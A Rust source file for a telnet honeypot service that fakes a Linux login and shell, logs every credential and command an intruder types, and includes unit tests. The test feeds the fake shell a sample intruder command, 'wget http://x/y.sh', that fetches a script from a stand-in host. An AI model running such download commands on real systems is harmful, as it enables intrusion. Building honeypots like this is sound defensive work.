//! Telnet (RFC 854) login: `login:` / `Password:` prompts like a Linux telnetd. Every attempt
//! is logged; the [`ACCEPT_ON_ATTEMPT`]th attempt "succeeds" into a fake shell so that the
//! commands an intruder types get logged too (the Cowrie approach), each answered with
//! believable output or `command not found`. Option negotiation from the client is stripped.

use super::dialogue::{Dialogue, Output, trim};
use super::event::{Event, kind};
use super::line_reader::{Line, Terminator};
use super::persona::Persona;

const IAC: u8 = 255;
const SB: u8 = 250;
const SE: u8 = 240;
const WILL_ECHO: &[u8] = &[IAC, 251, 1];
const WONT_ECHO: &[u8] = &[IAC, 252, 1];

/// The login attempt (1-based) that lets the client into the fake shell.
pub const ACCEPT_ON_ATTEMPT: u32 = 3;
/// Commands logged per session before the shell hangs up (bounds a scripted flood).
pub const MAX_COMMANDS: u32 = 500;
const KERNEL: &str = "5.15.0-91-generic";

enum State {
    Login,
    Password(Vec<u8>),
    Shell(String),
}

pub struct Telnet {
    hostname: String,
    os: String,
    state: State,
    attempts: u32,
    commands: u32,
}

impl Telnet {
    pub fn new(p: &Persona) -> Self {
        Telnet {
            hostname: p.hostname.clone(),
            os: p.os.clone(),
            state: State::Login,
            attempts: 0,
            commands: 0,
        }
    }

    fn login_prompt(&self, out: &mut Output) {
        out.send(format!("{} login: ", self.hostname));
    }

    fn shell_prompt(&self, user: &str, out: &mut Output) {
        let (home, sign) = if user == "root" {
            ("~", '#')
        } else {
            ("~", '$')
        };
        out.send(format!("{user}@{}:{home}{sign} ", self.hostname));
    }

    /// Output of a fake command, `None` to log out.
    fn run(&self, user: &str, input: &str) -> Option<String> {
        let mut words = input.split_whitespace();
        let cmd = words.next().unwrap_or("");
        let rest: Vec<&str> = words.collect();
        let (uid, home) = if user == "root" {
            (0, "/root".to_owned())
        } else {
            (1000, format!("/home/{user}"))
        };
        Some(match cmd {
            "" | "cd" | "ls" | "clear" | "history" | "export" | "unset" => String::new(),
            "exit" | "logout" => return None,
            "whoami" => format!("{user}\r\n"),
            "id" => format!("uid={uid}({user}) gid={uid}({user}) groups={uid}({user})\r\n"),
            "pwd" => format!("{home}\r\n"),
            "hostname" => format!("{}\r\n", self.hostname),
            "echo" => format!("{}\r\n", rest.join(" ")),
            "uname" if rest.iter().any(|a| a.contains('a')) => format!(
                "Linux {} {KERNEL} #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 \
                 x86_64 GNU/Linux\r\n",
                self.hostname
            ),
            "uname" => "Linux\r\n".to_owned(),
            "cat" if rest.first() == Some(&"/etc/issue") => format!("{} \\n \\l\r\n\r\n", self.os),
            other => format!("-bash: {other}: command not found\r\n"),
        })
    }
}

/// Removes telnet option negotiation (`IAC WILL x`, `IAC SB … IAC SE`, …) from client input;
/// `IAC IAC` is a literal 255.
pub fn strip_iac(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        if input[i] != IAC {
            out.push(input[i]);
            i += 1;
            continue;
        }
        match input.get(i + 1) {
            Some(&IAC) => {
                out.push(IAC);
                i += 2;
            }
            Some(&SB) => {
                // Skip to the IAC SE that ends the subnegotiation (or to the end).
                let mut j = i + 2;
                while j < input.len() && !(input[j] == IAC && input.get(j + 1) == Some(&SE)) {
                    j += 1;
                }
                i = j + 2;
            }
            Some(251..=254) => i += 3,
            _ => i += 2,
        }
    }
    out
}

impl Dialogue for Telnet {
    fn terminator(&self) -> Terminator {
        Terminator::CrOrLf
    }

    fn greeting(&mut self, out: &mut Output) {
        out.send(format!("{}\r\n", self.os));
        self.login_prompt(out);
    }

    fn on_line(&mut self, line: &Line, out: &mut Output) {
        let clean = strip_iac(&line.bytes);
        let text = String::from_utf8_lossy(trim(&clean)).into_owned();
        match std::mem::replace(&mut self.state, State::Login) {
            State::Login => {
                if text.is_empty() {
                    self.login_prompt(out);
                } else {
                    out.send(WILL_ECHO);
                    out.send("Password: ");
                    self.state = State::Password(text.into_bytes());
                }
            }
            State::Password(user) => {
                self.attempts += 1;
                let ok = self.attempts >= ACCEPT_ON_ATTEMPT;
                let user = String::from_utf8_lossy(&user).into_owned();
                out.event(
                    Event::new(kind::LOGIN_ATTEMPT)
                        .with("username", user.clone())
                        // The password is logged exactly as typed (minus negotiation bytes).
                        .with_bytes("password", &clean)
                        .with("outcome", if ok { "success" } else { "failure" }),
                );
                out.send(WONT_ECHO);
                out.send("\r\n");
                if ok {
                    out.send(format!(
                        "Welcome to {} (GNU/Linux {KERNEL} x86_64)\r\n\r\n",
                        self.os
                    ));
                    self.shell_prompt(&user, out);
                    self.state = State::Shell(user);
                } else {
                    out.send("\r\nLogin incorrect\r\n");
                    self.login_prompt(out);
                }
            }
            State::Shell(user) => {
                if !text.is_empty() {
                    self.commands += 1;
                    out.event(Event::new(kind::COMMAND).with("input", text.clone()));
                }
                match self.run(&user, &text) {
                    Some(_) if self.commands >= MAX_COMMANDS => out.close = true,
                    Some(reply) => {
                        out.send(reply);
                        self.shell_prompt(&user, out);
                        self.state = State::Shell(user);
                    }
                    None => {
                        out.send("logout\r\n");
                        out.close = true;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::Personality;
    use crate::decky::services::dialogue::script;

    fn telnet() -> Telnet {
        Telnet::new(&Persona::new("nas", &Personality::default()))
    }

    #[test]
    fn strip_iac_table() {
        let cases: &[(&[u8], &[u8])] = &[
            (b"root", b"root"),
            (&[IAC, 253, 1, b'p', b'w'], b"pw"),
            (&[IAC, SB, 24, 0, b'x', IAC, SE, b'a'], b"a"),
            (&[b'a', IAC, IAC, b'b'], &[b'a', IAC, b'b']),
            (&[b'a', IAC], b"a"),
            (&[IAC, SB, 1, 2], b""),
            (&[IAC, 244, b'z'], b"z"),
        ];
        for (i, want) in cases {
            assert_eq!(strip_iac(i), *want, "{i:?}");
        }
    }

    #[test]
    fn failed_then_accepted_login_then_commands() {
        let mut t = telnet();
        let (text, events, close) = script(
            &mut t,
            &[
                b"root",
                b"toor",
                b"admin",
                &[IAC, 253, 1, b'1', b'2', b'3'],
                b"root",
                b"hunter2",
                b"uname -a",
                b"wget http://x/y.sh",
                b"exit",
            ],
        );
        assert!(
            text.starts_with("Ubuntu 22.04.4 LTS\r\nnas login: "),
            "{text:?}"
        );
        assert!(text.contains("Login incorrect"));
        assert!(text.contains("root@nas:~# "));
        assert!(text.contains("Linux nas 5.15.0-91-generic"));
        assert!(text.contains("-bash: wget: command not found"));
        assert!(close);
        let logins: Vec<_> = events
            .iter()
            .filter(|e| e.kind == kind::LOGIN_ATTEMPT)
            .collect();
        assert_eq!(logins.len(), 3);
        assert_eq!(logins[1].field("username"), Some("admin"));
        assert_eq!(logins[1].field("password"), Some("123"));
        assert_eq!(logins[2].field("outcome"), Some("success"));
        let cmds: Vec<_> = events.iter().filter_map(|e| e.field("input")).collect();
        assert_eq!(cmds, ["uname -a", "wget http://x/y.sh", "exit"]);
    }
}
